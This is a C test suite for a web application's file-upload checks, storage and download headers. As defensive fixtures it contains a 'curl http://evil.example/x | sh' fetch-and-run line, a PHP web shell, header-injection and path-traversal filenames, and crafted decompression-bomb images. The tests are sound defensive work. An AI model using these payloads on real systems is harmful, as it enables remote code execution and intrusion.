	const char *sh = "#!/bin/sh\ncurl http://evil.example/x | sh\n";
	expect_upload("x.jpg", sh, strlen(sh), &image_rules, KP_UPLOAD_TYPE_MISMATCH);
	expect_upload("x.txt", sh, strlen(sh), &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
	const char *php = "<?php system($_GET['c']); ?>\n";
	expect_upload("x.png", php, strlen(php), &image_rules, KP_UPLOAD_TYPE_MISMATCH);
	/* A program named .pdf. */
	size_t n;
	unsigned char *elf = read_path("/bin/true", &n);
	expect_upload("Rechnung.pdf", elf, n, &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
	expect_upload("Foto.jpg", elf, n, &image_rules, KP_UPLOAD_TYPE_MISMATCH);
	free(elf);
	/* Real formats under another real format's name. */
	gen_image(&b, KP_IMG_PNG, 10, 10);
	expect_buf("x.jpg", &b, &image_rules, KP_UPLOAD_TYPE_MISMATCH);
	expect_upload("x.docx", pdf_doc, strlen(pdf_doc), &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
	expect_upload("x.png", pdf_doc, strlen(pdf_doc), &image_rules, KP_UPLOAD_TYPE_MISMATCH);
	/* OLE2 without a Word stream (an installer could be one). */
	gen_cdf(&b, "Foo");
	expect_buf("x.doc", &b, &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
	gen_cdf(&b, "WordDocument");
	expect_buf("x.xls", &b, &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
	/* Random bytes. */
	unsigned char rnd[4096];
	assert_int_equal(kp_random(rnd, sizeof(rnd)), 0);
	expect_upload("x.pdf", rnd, sizeof(rnd), &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
}

static void test_extensions(void **state)
{
	struct buf jpg = {0};
	gen_image(&jpg, KP_IMG_JPEG, 16, 16);
	size_t n;
	unsigned char *elf = read_path("/bin/true", &n);
	expect_upload("tool.exe", elf, n, &doc_rules, KP_UPLOAD_BAD_EXTENSION);
	expect_upload("tool", elf, n, &doc_rules, KP_UPLOAD_BAD_EXTENSION);
	expect_upload("x.pdf.exe", elf, n, &doc_rules, KP_UPLOAD_DOUBLE_EXTENSION);
	expect_upload("x.jpg.scr", elf, n, &image_rules, KP_UPLOAD_DOUBLE_EXTENSION);
	expect_upload("x.PDF .exe", elf, n, &doc_rules, KP_UPLOAD_DOUBLE_EXTENSION);
	free(elf);
	expect_upload("shell.php.jpg", jpg.p, jpg.n, &image_rules, KP_UPLOAD_DOUBLE_EXTENSION);
	expect_upload("x.html.png", jpg.p, jpg.n, &image_rules, KP_UPLOAD_DOUBLE_EXTENSION);
	expect_upload("Rechnung.exe.pdf", pdf_doc, strlen(pdf_doc), &doc_rules,
	              KP_UPLOAD_DOUBLE_EXTENSION);
	expect_upload("a.svg.b.pdf", pdf_doc, strlen(pdf_doc), &doc_rules,
	              KP_UPLOAD_DOUBLE_EXTENSION);
	/* Not double: the same twice, dates and versions, an allowed one
	 * before another allowed one. */
	expect_upload("Scan.pdf.pdf", pdf_doc, strlen(pdf_doc), &doc_rules, KP_UPLOAD_OK);
	expect_upload("Protokoll 12.03.2024.pdf", pdf_doc, strlen(pdf_doc), &doc_rules,
	              KP_UPLOAD_OK);
	expect_upload("v1.2.jpg", jpg.p, jpg.n, &image_rules, KP_UPLOAD_OK);
	/* RLO: "Foto<RLO>gpj.exe" reads "Fotoexe.jpg"; cleaned, it is .exe. */
	expect_upload("Foto\u202egpj.exe", jpg.p, jpg.n, &image_rules, KP_UPLOAD_BAD_EXTENSION);
	expect_upload("Foto.jpg\u202e", jpg.p, jpg.n, &image_rules, KP_UPLOAD_OK);
	/* No usable extension. */
	expect_upload(".jpg", jpg.p, jpg.n, &image_rules, KP_UPLOAD_BAD_EXTENSION);
	expect_upload("...", jpg.p, jpg.n, &image_rules, KP_UPLOAD_BAD_EXTENSION);
	expect_upload("", jpg.p, jpg.n, &image_rules, KP_UPLOAD_BAD_EXTENSION);
	expect_upload("x.svg", jpg.p, jpg.n, &image_rules, KP_UPLOAD_BAD_EXTENSION);
	expect_upload("x.html", jpg.p, jpg.n, &doc_rules, KP_UPLOAD_BAD_EXTENSION);
	expect_upload("x.zip", jpg.p, jpg.n, &doc_rules, KP_UPLOAD_BAD_EXTENSION);
	expect_upload("../../x.jpg", jpg.p, jpg.n, &image_rules, KP_UPLOAD_OK);
	/* The refusal still names the file (cleaned). */
	struct kp_arena a = {0};
	struct kp_upload up;
	assert_int_equal(check(&a, "../a\x01.exe", jpg.p, jpg.n, &image_rules, &up),
	                 KP_UPLOAD_BAD_EXTENSION);
	assert_string_equal(up.name, "a.exe");
	assert_string_equal(up.ext, "exe");
	assert_null(up.mime);
	assert_null(up.tmp_path);
	kp_arena_reset(&a);
	buf_free(&jpg);
}

static void test_sizes(void **state)
{
	struct kp_arena a = {0};
	struct kp_upload up;
	/* Nothing chosen, nothing in it, not a file part. */
	struct kp_param p = part_of("x.pdf", "", 0);
	assert_int_equal(kp_upload_check(&a, &p, &doc_rules, &up), KP_UPLOAD_EMPTY);
	p.tmp_path = NULL;
	assert_int_equal(kp_upload_check(&a, &p, &doc_rules, &up), KP_UPLOAD_EMPTY);
	struct kp_param text = {.name = "title", .value = "x", .len = 1};
	assert_int_equal(kp_upload_check(&a, &text, &doc_rules, &up), KP_UPLOAD_EMPTY);
	assert_int_equal(kp_upload_check(&a, NULL, &doc_rules, &up), KP_UPLOAD_EMPTY);

	/* The limit, and one byte over it. */
	size_t len = strlen(pdf_doc);
	struct kp_upload_rules r = {KP_UPLOAD_DOCUMENT, len, 0};
	expect_upload("x.pdf", pdf_doc, len, &r, KP_UPLOAD_OK);
	r.max_bytes = len - 1;
	expect_upload("x.pdf", pdf_doc, len, &r, KP_UPLOAD_TOO_LARGE);
	/* The file counts, not what the parser said. */
	p = part_of("x.pdf", pdf_doc, len);
	p.file_size = 10;
	assert_int_equal(kp_upload_check(&a, &p, &r, &up), KP_UPLOAD_TOO_LARGE);
	/* The defaults. */
	struct buf big = {0};
	buf_str(&big, "%PDF-1.4\n");
	buf_zero(&big, KP_UPLOAD_DOCUMENT_MAX_BYTES);
	expect_upload("x.pdf", big.p, big.n, &doc_rules, KP_UPLOAD_TOO_LARGE);
	big.n = KP_UPLOAD_IMAGE_MAX_BYTES + 1;
	memcpy(big.p, "\x89PNG\r\n\x1a\n", 8);
	expect_upload("x.png", big.p, big.n, &image_rules, KP_UPLOAD_TOO_LARGE);
	buf_free(&big);
	kp_arena_reset(&a);
}

static void test_pixel_limits(void **state)
{
	struct buf b = {0};
	/* Decompression bombs: a tiny file that declares a huge picture. */
	gen_png_header(&b, 100000, 100000);
	assert_true(b.n < 200);
	expect_buf("bomb.png", &b, &image_rules, KP_UPLOAD_TOO_MANY_PIXELS);
	gen_png_header(&b, 8000, 5001); /* just over 40 megapixels */
	expect_buf("bomb.png", &b, &doc_rules, KP_UPLOAD_TOO_MANY_PIXELS);
	gen_png_header(&b, 0x7fffffff, 1);
	expect_buf("wide.png", &b, &image_rules, KP_UPLOAD_TOO_MANY_PIXELS);
	gen_png_header(&b, 0, 10);
	expect_buf("zero.png", &b, &image_rules, KP_UPLOAD_BAD_IMAGE);
	gen_png_header(&b, 0x80000000u, 1);
	expect_buf("neg.png", &b, &image_rules, KP_UPLOAD_BAD_IMAGE);

	/* A JPEG whose frame header says 60000 x 60000. */
	gen_image(&b, KP_IMG_JPEG, 8, 8);
	for (size_t i = 2; i + 9 < b.n; i++) {
		if (b.p[i] == 0xff && b.p[i + 1] == 0xc0) {
			b.p[i + 5] = 0xea, b.p[i + 6] = 0x60; /* height */
			b.p[i + 7] = 0xea, b.p[i + 8] = 0x60; /* width */
			break;
		}
	}
	expect_buf("bomb.jpg", &b, &image_rules, KP_UPLOAD_TOO_MANY_PIXELS);

	/* A GIF: a 1x1 screen holding a 65535 x 65535 frame. */
	buf_str(&b, "GIF89a");
	buf_le16(&b, 1), buf_le16(&b, 1), buf_u8(&b, 0), buf_u8(&b, 0), buf_u8(&b, 0);
	buf_u8(&b, 0x21), buf_u8(&b, 0xf9), buf_u8(&b, 4), buf_zero(&b, 4), buf_u8(&b, 0);
	buf_u8(&b, 0x2c), buf_le16(&b, 0), buf_le16(&b, 0), buf_le16(&b, 65535);
	buf_le16(&b, 65535), buf_u8(&b, 0), buf_u8(&b, 2), buf_u8(&b, 0), buf_u8(&b, 0x3b);
	expect_buf("bomb.gif", &b, &doc_rules, KP_UPLOAD_TOO_MANY_PIXELS);

	/* A WebP with a 16384 x 16384 canvas. */
	buf_str(&b, "RIFF");
	buf_le32(&b, 4 + 8 + 10);
	buf_str(&b, "WEBPVP8X");
	buf_le32(&b, 10);
	buf_u8(&b, 0), buf_zero(&b, 3);
	buf_u8(&b, 0xff), buf_u8(&b, 0x3f), buf_u8(&b, 0);
	buf_u8(&b, 0xff), buf_u8(&b, 0x3f), buf_u8(&b, 0);
	expect_buf("bomb.webp", &b, &image_rules, KP_UPLOAD_TOO_MANY_PIXELS);

	/* The caller's limit. */
	struct kp_upload_rules r = {KP_UPLOAD_IMAGE, 0, 5000};
	gen_image(&b, KP_IMG_PNG, 100, 50);
	expect_upload("x.png", b.p, b.n, &r, KP_UPLOAD_OK);
	r.max_pixels = 4999;
	expect_buf("x.png", &b, &r, KP_UPLOAD_TOO_MANY_PIXELS);
}

/* ---- the store ---- */

static int has_segment(const unsigned char *d, size_t n, unsigned marker)
{
	size_t i = 2;
	while (i + 4 <= n && d[i] == 0xff) {
		unsigned m = d[i + 1];
		if (m == marker)
			return 1;
		if (m == 0xda)
			break;
		i += 2 + ((size_t)d[i + 2] << 8 | d[i + 3]);
	}
	return 0;
}

static int is_red(gdImagePtr im, int x, int y)
{
	int c = gdImageGetTrueColorPixel(im, x, y);
	return gdTrueColorGetRed(c) > 200 && gdTrueColorGetBlue(c) < 60;
}

static int is_blue(gdImagePtr im, int x, int y)
{
	int c = gdImageGetTrueColorPixel(im, x, y);
	return gdTrueColorGetBlue(c) > 200 && gdTrueColorGetRed(c) < 60;
}

static void test_exif_stripped(void **state)
{
	struct kp_arena a = {0};
	struct buf b = {0};
	gen_exif_jpeg(&b, 40, 20, 1);
	assert_non_null(memmem(b.p, b.n, GPS_MARK, strlen(GPS_MARK)));
	assert_true(has_segment(b.p, b.n, 0xe1));
	struct kp_upload up;
	assert_int_equal(check(&a, "Foto.jpg", b.p, b.n, &image_rules, &up), KP_UPLOAD_OK);
	struct kp_stored s;
	assert_int_equal(kp_upload_store(&up, NULL, 0, &s), KP_UPLOAD_OK);
	size_t n;
	unsigned char *d = stored_bytes(&s, &n);
	assert_int_equal(d[0], 0xff);
	assert_int_equal(d[1], 0xd8);
	assert_false(has_segment(d, n, 0xe1)); /* no APP1: no Exif, no XMP */
	assert_false(has_segment(d, n, 0xe2)); /* no ICC */
	assert_false(has_segment(d, n, 0xfe)); /* no comment */
	assert_null(memmem(d, n, "CREATOR", 7));
	assert_null(memmem(d, n, "Exif", 4));
	assert_null(memmem(d, n, GPS_MARK, strlen(GPS_MARK)));
	assert_string_equal(s.mime, "image/jpeg");
	assert_int_equal(s.width, 40);
	assert_int_equal(s.height, 20);
	free(d);
	buf_free(&b);
	kp_arena_reset(&a);
}

/* The stored picture is upright: EXIF orientation applied, then dropped. */
static void test_orientation(void **state)
{
	/* Stored: 40 x 20, left half red, right half blue. Where red is
	 * once shown: (x, y) of a red and a blue pixel. */
	static const struct {
		unsigned o;
		int w, h, rx, ry, bx, by;
	} cases[] = {
	    {1, 40, 20, 5, 10, 35, 10}, {2, 40, 20, 35, 10, 5, 10}, {3, 40, 20, 35, 10, 5, 10},
	    {4, 40, 20, 5, 10, 35, 10}, {5, 20, 40, 10, 5, 10, 35}, {6, 20, 40, 10, 5, 10, 35},
	    {7, 20, 40, 10, 35, 10, 5}, {8, 20, 40, 10, 35, 10, 5},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct kp_arena a = {0};
		struct buf b = {0};
		gen_exif_jpeg(&b, 40, 20, cases[i].o);
		struct kp_upload up;
		assert_int_equal(check(&a, "Foto.jpg", b.p, b.n, &image_rules, &up), KP_UPLOAD_OK);
		assert_int_equal(up.width, cases[i].w);
		assert_int_equal(up.height, cases[i].h);
		struct kp_stored s;
		assert_int_equal(kp_upload_store(&up, NULL, 0, &s), KP_UPLOAD_OK);
		size_t n;
		unsigned char *d = stored_bytes(&s, &n);
		gdImagePtr im = gdImageCreateFromJpegPtr((int)n, d);
		assert_non_null(im);
		assert_int_equal(gdImageSX(im), cases[i].w);
		assert_int_equal(gdImageSY(im), cases[i].h);
		if (!is_red(im, cases[i].rx, cases[i].ry) || !is_blue(im, cases[i].bx, cases[i].by))
			fail_msg("orientation %u: colours not where they belong", cases[i].o);
		gdImageDestroy(im);
		free(d);
		buf_free(&b);
		kp_arena_reset(&a);
	}
}

static void test_image_sizes(void **state)
{
	struct kp_arena a = {0};
	struct buf b = {0};
	gen_image(&b, KP_IMG_PNG, 800, 600);
	struct kp_upload up;
	assert_int_equal(check(&a, "Portrait.png", b.p, b.n, &image_rules, &up), KP_UPLOAD_OK);
	const struct kp_image_box boxes[] = {{512, 512, 0}, {96, 96, 1}, {0, 0, 0},
	                                     {200, 0, 0},   {0, 60, 0},  {1000, 1000, 0}};
	const unsigned want[][2] = {{512, 384}, {96, 96}, {800, 600},
	                            {200, 150}, {80, 60}, {800, 600}};
	struct kp_stored s[6];
	assert_int_equal(kp_upload_store(&up, boxes, 6, s), KP_UPLOAD_OK);
	for (int i = 0; i < 6; i++) {
		size_t n;
		unsigned char *d = stored_bytes(&s[i], &n);
		gdImagePtr im = gdImageCreateFromPngPtr((int)n, d);
		assert_non_null(im);
		assert_int_equal(s[i].width, want[i][0]);
		assert_int_equal(s[i].height, want[i][1]);
		assert_int_equal(gdImageSX(im), want[i][0]);
		assert_int_equal(gdImageSY(im), want[i][1]);
		assert_string_equal(s[i].mime, "image/png");
		if (i == 1) { /* the centre of a red|blue picture: both halves */
			assert_true(is_red(im, 10, 48));
			assert_true(is_blue(im, 85, 48));
		}
		gdImageDestroy(im);
		free(d);
	}
	/* 800x600 and 1000x1000-box: the same bytes, stored once. */
	assert_string_equal(s[2].sha256, s[5].sha256);
	assert_true(s[5].existed);
	assert_int_equal(count_files(storedir), 5);
	buf_free(&b);

	/* Smaller than the box: never scaled up; cover still cuts a square. */
	gen_image(&b, KP_IMG_JPEG, 50, 80);
	assert_int_equal(check(&a, "klein.jpg", b.p, b.n, &image_rules, &up), KP_UPLOAD_OK);
	const struct kp_image_box small[] = {{96, 96, 1}, {512, 512, 0}, {40, 0, 1}};
	assert_int_equal(kp_upload_store(&up, small, 3, s), KP_UPLOAD_OK);
	assert_int_equal(s[0].width, 50);
	assert_int_equal(s[0].height, 50);
	assert_int_equal(s[1].width, 50);
	assert_int_equal(s[1].height, 80);
	assert_int_equal(s[2].width, 40); /* cover with one side: fit */
	assert_int_equal(s[2].height, 64);
	buf_free(&b);

	/* Cover on a portrait photo turned by EXIF: the box is the display's. */
	gen_exif_jpeg(&b, 400, 200, 6);
	assert_int_equal(check(&a, "hoch.jpg", b.p, b.n, &image_rules, &up), KP_UPLOAD_OK);
	const struct kp_image_box both[] = {{100, 50, 1}, {100, 100, 0}};
	assert_int_equal(kp_upload_store(&up, both, 2, s), KP_UPLOAD_OK);
	assert_int_equal(s[0].width, 100);
	assert_int_equal(s[0].height, 50);
	assert_int_equal(s[1].width, 50);
	assert_int_equal(s[1].height, 100);
	buf_free(&b);
	kp_arena_reset(&a);
}

static void test_image_formats_stored(void **state)
{
	static const struct {
		const char *name;
		enum kp_image_format f;
		const struct kp_upload_rules *rules;
	} cases[] = {{"a.jpg", KP_IMG_JPEG, &image_rules},
	             {"a.png", KP_IMG_PNG, &image_rules},
	             {"a.webp", KP_IMG_WEBP, &image_rules},
	             {"a.gif", KP_IMG_GIF, &doc_rules}};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct kp_arena a = {0};
		struct buf b = {0};
		gen_image(&b, cases[i].f, 300, 200);
		struct kp_upload up;
		assert_int_equal(check(&a, cases[i].name, b.p, b.n, cases[i].rules, &up),
		                 KP_UPLOAD_OK);
		const struct kp_image_box box = {150, 150, 0};
		struct kp_stored s[2];
		assert_int_equal(kp_upload_store(&up, NULL, 0, &s[0]), KP_UPLOAD_OK);
		assert_int_equal(kp_upload_store(&up, &box, 1, &s[1]), KP_UPLOAD_OK);
		for (int k = 0; k < 2; k++) {
			size_t n;
			unsigned char *d = stored_bytes(&s[k], &n);
			struct kp_image_info info;
			assert_int_equal(kp_image_probe(d, n, &info), 0);
			assert_int_equal(info.format, cases[i].f);
			assert_int_equal(info.width, k ? 150 : 300);
			assert_int_equal(info.height, k ? 100 : 200);
			assert_string_equal(s[k].mime, up.mime);
			free(d);
		}
		buf_free(&b);
		kp_arena_reset(&a);
	}
}

static void test_bad_image_data(void **state)
{
	struct kp_arena a = {0};
	struct buf b = {0};
	/* A header that passes, pixel data that does not. */
	gen_image(&b, KP_IMG_PNG, 64, 64);
	b.n = 40;
	struct kp_upload up;
	assert_int_equal(check(&a, "kaputt.png", b.p, b.n, &image_rules, &up), KP_UPLOAD_OK);
	struct kp_stored s;
	assert_int_equal(kp_upload_store(&up, NULL, 0, &s), KP_UPLOAD_BAD_IMAGE);
	assert_int_equal(count_files(storedir), 0);
	buf_free(&b);
	/* Right magic, header cut before the frame size. */
	gen_image(&b, KP_IMG_JPEG, 64, 64);
	b.n = 20;
	expect_buf("kaputt.jpg", &b, &image_rules, KP_UPLOAD_BAD_IMAGE);
	kp_arena_reset(&a);
}

static void test_store_documents(void **state)
{
	struct kp_arena a = {0};
	struct kp_upload up;
	size_t len = strlen(pdf_doc);
	assert_int_equal(check(&a, "Satzung.pdf", pdf_doc, len, &doc_rules, &up), KP_UPLOAD_OK);
	struct kp_stored s1, s2;
	assert_int_equal(kp_upload_store(&up, NULL, 0, &s1), KP_UPLOAD_OK);
	assert_false(s1.existed);
	assert_string_equal(s1.mime, "application/pdf");
	assert_int_equal(s1.size, len);
	size_t n;
	unsigned char *d = stored_bytes(&s1, &n);
	assert_memory_equal(d, pdf_doc, len); /* documents: byte for byte */
	free(d);
	/* The temporary file is still the parser's. */
	assert_int_equal(access(up.tmp_path, F_OK), 0);

	/* The same content again, under another name: one file. */
	assert_int_equal(check(&a, "Kopie.pdf", pdf_doc, len, &doc_rules, &up), KP_UPLOAD_OK);
	assert_int_equal(kp_upload_store(&up, NULL, 0, &s2), KP_UPLOAD_OK);
	assert_true(s2.existed);
	assert_string_equal(s1.sha256, s2.sha256);
	assert_int_equal(count_files(storedir), 1);
	assert_int_equal(n_tmp, 0);

	/* Folders: 0750 with the store's setgid bit. */
	char path[800];
	struct stat sb;
	snprintf(path, sizeof(path), "%s/%.2s", storedir, s1.sha256);
	assert_int_equal(stat(path, &sb), 0);
	assert_int_equal(sb.st_mode & 07777, 02750);
	snprintf(path, sizeof(path), "%s/%.2s/%.2s", storedir, s1.sha256, s1.sha256 + 2);
	assert_int_equal(stat(path, &sb), 0);
	assert_int_equal(sb.st_mode & 07777, 02750);

	/* A larger document, streamed through in pieces. */
	struct buf big = {0};
	buf_str(&big, "name,wert\n");
	for (int i = 0; i < 40000; i++) {
		char line[32];
		snprintf(line, sizeof(line), "zeile%d,%d\n", i, i * 7);
		buf_str(&big, line);
	}
	assert_int_equal(check(&a, "gross.csv", big.p, big.n, &doc_rules, &up), KP_UPLOAD_OK);
	assert_int_equal(kp_upload_store(&up, NULL, 0, &s1), KP_UPLOAD_OK);
	d = stored_bytes(&s1, &n);
	assert_int_equal(n, big.n);
	assert_memory_equal(d, big.p, n);
	assert_string_equal(s1.mime, "text/csv");
	free(d);
	buf_free(&big);
	assert_int_equal(count_files(storedir), 2);
	kp_arena_reset(&a);
}

static void test_store_errors(void **state)
{
	struct kp_arena a = {0};
	struct kp_upload up;
	struct kp_stored s;
	size_t len = strlen(pdf_doc);
	/* Not checked. */
	memset(&up, 0, sizeof(up));
	assert_int_equal(kp_upload_store(&up, NULL, 0, &s), KP_UPLOAD_IO);
	/* Boxes for a document. */
	assert_int_equal(check(&a, "x.pdf", pdf_doc, len, &doc_rules, &up), KP_UPLOAD_OK);
	const struct kp_image_box box = {10, 10, 0};
	assert_int_equal(kp_upload_store(&up, &box, 1, &s), KP_UPLOAD_IO);
	/* Changed after the check. */
	FILE *f = fopen(up.tmp_path, "ab");
	assert_non_null(f);
	fputs("<html>", f);
	fclose(f);
	assert_int_equal(kp_upload_store(&up, NULL, 0, &s), KP_UPLOAD_IO);
	/* Gone. */
	assert_int_equal(check(&a, "x.pdf", pdf_doc, len, &doc_rules, &up), KP_UPLOAD_OK);
	char gone[700];
	snprintf(gone, sizeof(gone), "%s", up.tmp_path);
	unlink(gone);
	assert_int_equal(kp_upload_store(&up, NULL, 0, &s), KP_UPLOAD_IO);
	/* No store. */
	assert_int_equal(check(&a, "x.pdf", pdf_doc, len, &doc_rules, &up), KP_UPLOAD_OK);
	snprintf(kp_cfg.file_dir, sizeof(kp_cfg.file_dir), "%.200s/missing", root);
	assert_int_equal(kp_upload_store(&up, NULL, 0, &s), KP_UPLOAD_IO);
	/* A store where the subfolder is a file. */
	snprintf(kp_cfg.file_dir, sizeof(kp_cfg.file_dir), "%s", storedir);
	unsigned char h[32];
	char hex[65], path[800];
	kp_sha256(pdf_doc, len, h);
	kp_hex(h, 32, hex);
	snprintf(path, sizeof(path), "%s/%.2s", storedir, hex);
	f = fopen(path, "w");
	assert_non_null(f);
	fclose(f);
	assert_int_equal(kp_upload_store(&up, NULL, 0, &s), KP_UPLOAD_IO);
	assert_int_equal(count_files(storedir), 1); /* that file only */
	assert_int_equal(n_tmp, 0);
	kp_arena_reset(&a);
}

/* A full disk, played by RLIMIT_FSIZE (EFBIG, as in test_multipart): a
 * clear status and nothing left in the store. */
static void test_no_space_rlimit(void **state)
{
	struct kp_arena a = {0};
	struct buf big = {0};
	buf_str(&big, "%PDF-1.4\n");
	buf_zero(&big, 300000);
	struct kp_upload up;
	assert_int_equal(check(&a, "gross.pdf", big.p, big.n, &doc_rules, &up), KP_UPLOAD_OK);
	struct buf img = {0};
	gen_noise_png(&img, 200, 200);
	assert_true(img.n > 100000);
	struct kp_upload upi;
	assert_int_equal(check(&a, "gross.png", img.p, img.n, &image_rules, &upi), KP_UPLOAD_OK);

	struct rlimit old, small = {.rlim_cur = 4096, .rlim_max = 0};
	assert_int_equal(getrlimit(RLIMIT_FSIZE, &old), 0);
	small.rlim_max = old.rlim_max;
	void (*prev)(int) = signal(SIGXFSZ, SIG_IGN);
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &small), 0);
	struct kp_stored s;
	enum kp_upload_status st = kp_upload_store(&up, NULL, 0, &s);
	enum kp_upload_status sti = kp_upload_store(&upi, NULL, 0, &s);
	setrlimit(RLIMIT_FSIZE, &old);
	signal(SIGXFSZ, prev);
	assert_int_equal(st, KP_UPLOAD_NO_SPACE);
	assert_int_equal(sti, KP_UPLOAD_NO_SPACE);
	assert_int_equal(count_files(storedir), 0);
	/* And with room again, it works. */
	assert_int_equal(kp_upload_store(&up, NULL, 0, &s), KP_UPLOAD_OK);
	assert_int_equal(count_files(storedir), 1);
	buf_free(&big);
	buf_free(&img);
	kp_arena_reset(&a);
}

static int write_proc(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0)
		return -1;
	ssize_t n = write(fd, s, strlen(s));
	close(fd);
	return n == (ssize_t)strlen(s) ? 0 : -1;
}

/* A real ENOSPC: a 64 KiB tmpfs as the store, in a mount namespace of a
 * child process (skipped where namespaces are not allowed). */
static void test_no_space_tmpfs(void **state)
{
	struct kp_arena a = {0};
	struct buf big = {0};
	buf_str(&big, "%PDF-1.4\n");
	buf_zero(&big, 300000);
	struct kp_upload up;
	assert_int_equal(check(&a, "gross.pdf", big.p, big.n, &doc_rules, &up), KP_UPLOAD_OK);
	char tiny[300];
	snprintf(tiny, sizeof(tiny), "%s/tiny", root);
	assert_int_equal(mkdir(tiny, 0750), 0);
	fflush(NULL);
	pid_t pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		if (unshare(CLONE_NEWNS) != 0) {
			char map[64];
			uid_t uid = getuid();
			gid_t gid = getgid();
			if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
				_exit(77);
			snprintf(map, sizeof(map), "0 %u 1", (unsigned)uid);
			write_proc("/proc/self/setgroups", "deny");
			if (write_proc("/proc/self/uid_map", map) != 0)
				_exit(77);
			snprintf(map, sizeof(map), "0 %u 1", (unsigned)gid);
			if (write_proc("/proc/self/gid_map", map) != 0)
				_exit(77);
		}
		/* Private, so the mount never shows outside this process. */
		if (mount("none", "/", "none", MS_REC | MS_PRIVATE, NULL) != 0 ||
		    mount("tmpfs", tiny, "tmpfs", MS_NOSUID | MS_NODEV, "size=64k,mode=0750") != 0)
			_exit(77);
		snprintf(kp_cfg.file_dir, sizeof(kp_cfg.file_dir), "%s", tiny);
		struct kp_stored s;
		enum kp_upload_status st = kp_upload_store(&up, NULL, 0, &s);
		n_regular = 0;
		nftw(tiny, count_entry, 16, FTW_PHYS);
		/* The small document still fits. */
		struct kp_param p = part_of("klein.pdf", pdf_doc, strlen(pdf_doc));
		struct kp_upload small;
		enum kp_upload_status st2 = kp_upload_check(&a, &p, &doc_rules, &small);
		if (st2 == KP_UPLOAD_OK)
			st2 = kp_upload_store(&small, NULL, 0, &s);
		_exit(st != KP_UPLOAD_NO_SPACE ? 10 + (int)st
		      : n_regular != 0         ? 30 + (int)n_regular
		      : st2 != KP_UPLOAD_OK    ? 50 + (int)st2
		                               : 0);
	}
	int status = 0;
	assert_int_equal(waitpid(pid, &status, 0), pid);
	buf_free(&big);
	kp_arena_reset(&a);
	assert_true(WIFEXITED(status));
	if (WEXITSTATUS(status) == 77) {
		fprintf(stderr, "(no mount namespace here: tmpfs case skipped)\n");
		skip();
	}
	assert_int_equal(WEXITSTATUS(status), 0);
	assert_int_equal(rmdir(tiny), 0); /* nothing leaked onto the real folder */
}

/* ---- downloads ---- */

static void test_content_disposition(void **state)
{
	struct kp_arena a = {0};
	assert_string_equal(kp_content_disposition(&a, "Bericht.pdf", 0),
	                    "attachment; filename=\"Bericht.pdf\"; filename*=UTF-8''Bericht.pdf");
	assert_string_equal(kp_content_disposition(&a, "Prüfbericht Größe 2024.pdf", 1),
	                    "inline; filename=\"Pruefbericht Groesse 2024.pdf\"; "
	                    "filename*=UTF-8''Pr%C3%BCfbericht%20Gr%C3%B6%C3%9Fe%202024.pdf");
	assert_string_equal(kp_content_disposition(&a, "报告.docx", 0),
	                    "attachment; filename=\"__.docx\"; "
	                    "filename*=UTF-8''%E6%8A%A5%E5%91%8A.docx");
	/* Quotes, CR/LF, backslashes, percent signs, semicolons. */
	assert_string_equal(kp_content_disposition(&a, "a\"b\r\nSet-Cookie: x=1.pdf", 0),
	                    "attachment; filename=\"a_b Set-Cookie_ x=1.pdf\"; "
	                    "filename*=UTF-8''a_b%20Set-Cookie_%20x%3D1.pdf");
	assert_string_equal(kp_content_disposition(&a, "100%25; x.txt", 0),
	                    "attachment; filename=\"100_25; x.txt\"; "
	                    "filename*=UTF-8''100%2525%3B%20x.txt");
	assert_string_equal(kp_content_disposition(&a, "..\\..\\boot.ini", 0),
	                    "attachment; filename=\"boot.ini\"; filename*=UTF-8''boot.ini");
	assert_string_equal(kp_content_disposition(&a, "\u202egpj.exe", 0),
	                    "attachment; filename=\"gpj.exe\"; filename*=UTF-8''gpj.exe");
	assert_string_equal(kp_content_disposition(&a, "", 0),
	                    "attachment; filename=\"file\"; filename*=UTF-8''file");
	assert_string_equal(kp_content_disposition(&a, NULL, 0),
	                    "attachment; filename=\"file\"; filename*=UTF-8''file");
	/* The longest name still makes a bounded header. */
	char in[400];
	memset(in, 0, sizeof(in));
	for (int i = 0; i < 120; i++)
		strcat(in, "ü");
	const char *v = kp_content_disposition(&a, in, 0);
	assert_true(strlen(v) < 1000);
	for (const char *p = v; *p; p++)
		assert_true(*p >= 0x20 && *p < 0x7f);
	kp_arena_reset(&a);
}

static void test_download_prepare(void **state)
{
	struct kp_arena a = {0};
	struct kp_download d;
	const char *h = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
	assert_int_equal(kp_download_prepare(&a, h, "application/pdf", "Satzung.pdf", 1, &d), 0);
	assert_string_equal(d.accel_redirect,
	                    "/_files/ba/78/"
	                    "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f2"
	                    "0015ad");
	assert_string_equal(d.content_type, "application/pdf");
	assert_true(d.is_inline);
	assert_memory_equal(d.disposition, "inline;", 7);
	assert_string_equal(d.cache_control, "private, no-cache");
	/* Asked for an attachment. */
	assert_int_equal(kp_download_prepare(&a, h, "application/pdf", "Satzung.pdf", 0, &d), 0);
	assert_false(d.is_inline);
	assert_memory_equal(d.disposition, "attachment;", 11);
	/* Raster images inline; Office files and text never. */
	static const char *const inl[] = {"image/jpeg", "image/png", "image/webp", "image/gif"};
	for (int i = 0; i < 4; i++) {
		assert_int_equal(kp_download_prepare(&a, h, inl[i], "x", 1, &d), 0);
		assert_true(d.is_inline);
		assert_string_equal(d.content_type, inl[i]);
	}
	static const char *const att[] = {
	    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
	    "application/msword", "text/plain", "text/csv",
	    "application/vnd.oasis.opendocument.text"};
	for (int i = 0; i < 5; i++) {
		assert_int_equal(kp_download_prepare(&a, h, att[i], "x", 1, &d), 0);
		assert_false(d.is_inline);
		assert_string_equal(d.content_type, att[i]);
	}
	/* A type not ours (an old row, an import): octet-stream attachment. */
